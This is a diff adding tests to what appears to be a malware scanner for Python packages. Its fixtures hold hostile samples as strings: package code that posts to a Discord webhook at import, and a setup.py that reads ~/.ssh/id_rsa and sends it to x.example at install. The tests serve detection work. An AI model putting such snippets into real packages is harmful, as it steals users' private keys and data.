@@ -73,3 +73,28 @@ def test_in_tree_build_backend_runs_at_install() -> None:
     }
     result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
     assert phases_of(result, "net.http.request") == {Phase.INSTALL}
+
+
+def _cw105(files: dict[str, str]) -> list[tuple[str, Phase | None]]:
+    result = scan_bytes(wheel_bytes(files), "demo-0.1-py3-none-any.whl")
+    return [(f.severity.name, f.phase) for f in result.findings if f.rule == "CW105"]
+
+
+def test_constant_read_from_another_module_at_import_is_an_import_time_clue() -> None:
+    hook = "https://discord.com/api/webhooks/4455667788/AbCdEfGhIjKlMnOpQrStUvWxYz012345"
+    sender = "import requests\nfrom .settings import HOOK\nrequests.post(HOOK, data='x')\n"
+    files = {"demo/settings.py": f"HOOK = {hook!r}\n", "demo/__init__.py": sender}
+    assert _cw105(files) == [("CRITICAL", Phase.IMPORT)]
+    by_attribute = "import requests\nfrom . import settings\nrequests.post(settings.HOOK)\n"
+    files["demo/__init__.py"] = by_attribute
+    assert _cw105(files) == [("CRITICAL", Phase.IMPORT)]
+
+
+def test_constant_method_call_reads_the_constant() -> None:
+    setup = (
+        "import urllib.request\nKEY = open('/home/u/.ssh/id_rsa').read()\n"
+        "urllib.request.urlopen('https://x.example/k', data=KEY.encode())\n"
+    )
+    result = scan_bytes(sdist_bytes({"setup.py": setup}), "demo.tar.gz")
+    cw107 = [f for f in result.findings if f.rule == "CW107"]
+    assert cw107 and cw107[0].phase is Phase.INSTALL
